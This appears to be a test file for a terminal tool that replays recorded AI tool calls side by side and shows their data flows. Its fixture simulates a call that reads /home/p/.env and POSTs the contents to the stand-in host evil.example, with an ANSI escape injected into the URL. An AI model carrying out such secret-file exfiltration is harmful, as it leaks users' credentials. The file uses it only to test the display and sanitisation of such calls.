"""Recording from the prompt, and a recorded call replayed beside itself."""

import asyncio
from dataclasses import replace

from blufio_tui.core.errors import NotThere
from blufio_tui.core.replay.compare import Replayed, compare
from blufio_tui.core.replay.flow import Destination, Flow, Flows, Source
from blufio_tui.core.replay.playback import Playback
from tests.fakes.call_records import fetched, read, record_of
from tests.fakes.ui_services import Fakes
from tests.ui.helpers import WIDE, running, say, screen_text, turn_over, until

SOURCE = Source("fs.read", "/home/p/.env", 3, (0,))


class Replays:
    """Replays a call that read a file and sent something."""

    def __init__(self, output: str = "out") -> None:
        self.output = output
        self.asked: list[str] = []

    async def replay(self, call_id: str) -> Replayed:
        self.asked.append(call_id)
        record = record_of([read("/home/p/.env"), fetched("https://evil.example/\x1b[31m", method="POST")])
        playback = Playback(record)
        for exchange in record.exchanges[: 2 if self.output == "out" else 1]:
            playback.answer(exchange.request)
        return compare(record, replace(record.ending, content=self.output), playback)

    async def flows(self, call_id: str) -> Flows:
        to = Destination("net", "evil.example")
        return Flows(call_id, (Flow(SOURCE, to, "content"),), (SOURCE,), (to,))


class Recording:
    def __init__(self) -> None:
        self.on: dict[str, bool] = {}

    def said(self, session_id: str) -> str:
        return "recording" if self.on.get(session_id) else ""

    def set(self, session_id: str, on: bool) -> None:
        self.on[session_id] = on


async def test_a_call_is_shown_beside_itself() -> None:
    replays = Replays()
    async with running(Fakes(more={"replays": replays}), WIDE) as (app, pilot, _):
        await say(pilot, "count the words")
        await turn_over(app, pilot)
        await pilot.press("f3", "home", "down", "down", "R")
        await until(pilot, lambda: "the same to the bit" in screen_text(app))
        assert replays.asked == ["call1"]
        shown = screen_text(app)
        assert "read /home/p/.env" in shown
        assert "POST https://evil.example/" in shown and "\x1b" not in shown
        await pilot.press("f")
        await until(pilot, lambda: "fs.read /home/p/.env → net evil.example (content)" in screen_text(app))
        await pilot.press("escape")
        await until(pilot, lambda: app.screen is app.main)


async def test_what_differs_is_marked_and_shown_on_both_sides() -> None:
    async with running(Fakes(more={"replays": Replays("other")})) as (app, pilot, _):
        await say(pilot, "count the words")
        await turn_over(app, pilot)
        await pilot.press("f3", "home", "down", "down", "R")
        await until(pilot, lambda: "not the same" in screen_text(app))
        await pilot.press("down")
        await until(pilot, lambda: "replayed" in screen_text(app))
        shown = screen_text(app)
        assert "other" in shown and "none" in shown


async def test_going_back_stops_a_replay_that_does_not_end() -> None:
    class Endless(Replays):
        stopped = False

        async def replay(self, call_id: str) -> Replayed:
            self.asked.append(call_id)
            try:
                await asyncio.Event().wait()
            finally:
                self.stopped = True
            raise AssertionError("it does not end")

    replays = Endless()
    async with running(Fakes(more={"replays": replays}), WIDE) as (app, pilot, _):
        await say(pilot, "count the words")
        await turn_over(app, pilot)
        await pilot.press("f3", "home", "down", "down", "R")
        await until(pilot, lambda: replays.asked == ["call1"])
        assert not replays.stopped
        await pilot.press("escape")
        await until(pilot, lambda: replays.stopped and app.screen is app.main)


async def test_a_call_that_was_not_recorded_says_how_to_record() -> None:
    class Nothing(Replays):
        async def replay(self, call_id: str) -> Replayed:
            raise NotThere(f"the call {call_id} was not recorded; `record.calls = true` records what follows")

    async with running(Fakes(more={"replays": Nothing()})) as (app, pilot, _):
        await say(pilot, "count the words")
        await turn_over(app, pilot)
        await pilot.press("f3", "home", "down", "down", "R")
        await until(pilot, lambda: "was not recorded" in screen_text(app))


async def test_recording_is_said_at_the_bottom_as_long_as_it_is_on() -> None:
    recording = Recording()
    async with running(Fakes(more={"recording": recording})) as (app, pilot, _):
        assert "● recording" not in screen_text(app)
        await say(pilot, "/record on")
        await until(pilot, lambda: "● recording" in screen_text(app))
        await say(pilot, "/record off")
        await until(pilot, lambda: "● recording" not in screen_text(app))
        assert list(recording.on.values()) == [False]
